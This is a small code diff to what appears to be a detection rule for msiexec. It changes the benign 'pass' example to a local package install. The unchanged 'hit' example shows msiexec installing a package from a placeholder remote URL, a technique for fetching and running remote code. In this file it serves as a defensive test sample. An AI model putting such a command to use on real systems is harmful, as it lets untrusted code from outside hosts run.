@@ -15,6 +15,6 @@ export default program({
   ],
   examples: {
     hit: ["msiexec /i:http://x.example/a"],
-    pass: ["msiexec"],
+    pass: ["msiexec /i setup.msi"],
   },
 });
